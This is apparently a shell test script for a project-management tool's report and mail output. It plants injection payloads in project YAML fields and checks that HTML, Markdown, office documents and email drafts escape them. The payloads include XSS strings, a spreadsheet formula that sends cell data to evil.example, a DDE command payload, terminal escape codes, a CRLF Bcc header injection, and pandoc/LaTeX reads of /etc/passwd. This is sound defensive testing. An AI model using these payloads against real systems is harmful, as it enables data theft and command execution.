# Every report of a project in which each title, name, note and comment is an attack on a
# browser, a spreadsheet, a terminal, a mail program or pandoc.
# shellcheck shell=sh disable=SC2034,SC2154

rm -rf -- *
"$pmo" demo "$work/box/tree/demo" >/dev/null || fault "no demo"

# Each words that people read becomes one of these, in turn; ids, dates and sums stay.
cat >"$work/words" <<'END'
<script>alert(1)</script> %d
\"><img src=x onerror=alert(1)> ' %d
=HYPERLINK(\"https://evil.example/?\"&A1,\"%d\")
\e[2J\e]0;owned\a\e[31m%d
\u202Egnp.exe\u202C \u2066%d\u2069\u200B
%d\r\nBcc: evil@evil.example\r\n\r\n<b>x</b>
![](file:///etc/passwd) %d [a](javascript:alert(1)) javascript:alert(1)
`<b>raw</b>`{=html} <iframe src=file:///etc/passwd> \\input{/etc/passwd} $\\write18{id}$ %d
</title></style></svg>]]>--><svg onload=alert(1)> %d
::: {include=/etc/passwd}\n{{< include /etc/passwd >}}\n|%d|\n---\n# x
@SUM(%d) +cmd|' /C calc'!A0 <!-- %d
<a href=\"javascript:alert(1)\" style=\"background:url(http://evil.example/%d)\">x</a>
END

spoil() {
	find demo -name '*.yaml' ! -name 'pmo.yaml' | while read -r file; do
		awk -v words="$work/words" -v turn="$1" '
			BEGIN { while ((getline line < words) > 0) word[n++] = line }
			/^ *(title|name|role|org|cause|event|effect|response|contingency|trigger|text|summary|question|description|reason|comment|location|recommendation|background|scope_comment|schedule_comment|risk_comment): / {
				key = $0
				sub(/:.*/, ":", key)
				text = word[(NR + length(FILENAME) + turn) % n]
				gsub(/%d/, NR, text)
				printf "%s \"%s\"\n", key, text
				next
			}
			/^ *- "?20[0-9][0-9]-[0-9-]* [^"]*$/ && !/^ *- "/ {
				text = word[(NR + turn) % n]
				gsub(/%d/, NR, text)
				match($0, /^ *- 20[0-9-]* /)
				printf "%s%s%s\"\n", substr($0, 1, index($0, "-") + 1) "\"", substr($0, index($0, "-") + 2, 11), text
				next
			}
			{ print }' "$file" >"$work/spoiled" && cat "$work/spoiled" >"$file"
	done
}

# What a program for that format would take for more than text.
look() {
	case $1 in
	html)
		! grep -E -i -q '<(script|img|iframe|b>|a href="javascript|svg onload|!--)' "$out" ||
			fault "markup in html: $(grep -E -i -m 1 -o '.{40}<(script|img|iframe|b>|svg onload|!--).{20}' "$out")"
		! grep -E -q 'http://evil|href="(javascript|file|data):' "$out" || # a style's url is text
			grep -E -q '&quot;background:url\(http://evil' "$out" ||
			fault "an address in html"
		;;
	md)
		# shellcheck disable=SC2016 # the marks of a block of code
		# Charts stand in a block of code, where a character is what it looks like.
		sed '/^```/,/^```/d' "$out" >"$work/prose"
		! grep -E -q '(^|[^\\])(<(script|img|iframe|svg)|!\[)' "$work/prose" ||
			fault "markup in md: $(grep -E -m 1 -o '(^|[^\\])(<(script|img|iframe|svg)|!\[).{20}' "$work/prose")"
		;;
	json)
		[ "$status" -gt 1 ] || ! command -v python3 >/dev/null ||
			python3 -m json.tool "$out" >/dev/null 2>&1 || fault "no json: $out"
		;;
	esac
}

report() {
	for format in text md html json; do
		case $1 in
		status | onepage | deck | portfolio | gantt | critical)
			try -C demo -p cadup --as-of 2026-11-20 "$@" --format "${format#text}${table}"
			;;
		*) try -C demo -p cadup --as-of 2026-11-20 "$@" --format "$format" ;;
		esac
		sed '/^pmo: /d' "$out" >"$work/report" && cat "$work/report" >"$out"
		look "$format"
	done
}

all_reports() {
	table=
	for words in status 'status month' onepage deck portfolio gantt critical notice 'notice --full' \
		'agenda status' 'minutes MTG-5 --print' 'trace RSK-1' 'trace RSK-3' 'escalate ISS-1'; do
		# shellcheck disable=SC2086 # the words of a command
		report $words
	done
	try -C demo -p cadup --as-of 2026-11-20 digest
	try -C demo -p cadup --as-of 2026-11-20 escalate --due
	rm -rf site
	try -C demo --as-of 2026-11-20 publish "$work/box/tree/site"
	[ "$status" -eq 0 ] || fault "nothing published: $(cat "$out")"
	find site -name '*.html' >"$work/pages"
	while read -r page; do
		out=$page
		look html
	done <"$work/pages"
}

# Drafts of mail: nobody is added to those who get one.
all_mail() {
	for words in 'notice --send' 'agenda status --send' 'minutes MTG-5 --send' 'escalate ISS-6 --draft' \
		'digest --mail --per-person' 'status --send --uncommitted' 'remind --mail'; do
		# shellcheck disable=SC2086 # the words of a command
		try -C demo -p cadup --as-of 2026-11-20 $words
	done
	[ "$(find demo/outbox -name '*.eml' | wc -l)" -gt 4 ] || fault "no mail was drafted"
	! find demo/outbox -name '*.eml' -exec sed '/^.\{0,1\}$/,$d' {} + | grep -i '^Bcc:' ||
		fault "somebody else gets the mail"
}

# Documents through pandoc, which needs more addresses than there is memory.
all_documents() {
	command -v pandoc >/dev/null && command -v unzip >/dev/null || return 0
	limit=$memory cpu_limit=$cpu
	memory=unlimited cpu=30 wait=$seconds seconds=60
	for name in status.docx deck.pptx onepage.odt notice.docx; do
		rm -f "$name"
		try -C demo -p cadup --as-of 2026-11-20 "${name%.*}" -o "$work/box/tree/$name"
		[ -s "$name" ] || fault "no $name: $(tail -n 2 "$out")"
		unzip -p "$name" 2>/dev/null | LC_ALL=C grep -a -q 'root:x:0' && fault "$name holds a file"
		unzip -p "$name" '*.rels' content.xml 2>/dev/null |
			LC_ALL=C grep -a -q -E '(Target|href)="(file|javascript):' && fault "$name has a link"
	done
	memory=$limit cpu=$cpu_limit seconds=$wait
}

git=yes
for turn in 0 5; do
	rm -rf demo && "$pmo" demo "$work/box/tree/demo" >/dev/null
	spoil "$turn"
	all_reports
	all_documents
	all_mail
done

# A note of ten megabytes, and a title of one.
rm -rf demo && "$pmo" demo "$work/box/tree/demo" >/dev/null
{
	printf 'notes:\n  - "2026-11-20 '
	awk 'BEGIN { for (i = 0; i < 655360; i++) printf "<b>word%07d</b>", i }'
	printf '"\n'
} >>demo/cadup/risks/RSK-008.yaml
awk 'NR == 1 { printf "title: \""; for (i = 0; i < 65536; i++) printf "<i>a long title "; print "\""; next }
	{ print }' demo/cadup/issues/ISS-001.yaml >"$work/long" &&
	cat "$work/long" >demo/cadup/issues/ISS-001.yaml
all_reports
